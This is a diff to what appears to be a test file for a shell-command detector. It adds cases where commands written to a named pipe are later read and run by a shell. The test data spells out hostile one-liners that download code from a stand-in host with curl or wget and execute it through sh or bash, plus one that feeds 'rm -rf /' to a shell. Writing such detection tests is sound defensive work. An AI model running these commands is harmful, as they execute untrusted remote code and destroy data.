@@ -44,6 +44,8 @@ test('what is written to a named pipe later is read from it earlier', () => {
       'mkfifo p; sh < p & curl -s https://x.example/i > p',
       'mkfifo /tmp/p; cat /tmp/p | bash & wget -qO- https://x.example/i > /tmp/p',
       "bash -c 'mkfifo p; sh p & echo rm -rf / > p'",
+      "trap 'mkfifo p; sh p & curl https://x.example > p' EXIT",
+      "printf %s 'mkfifo p; sh p & curl https://x.example > p' | tee >(sh)",
     ],
     ['mkfifo p; cat p & echo hello > p', 'mkfifo p; sh < p & echo ls > p'],
   );
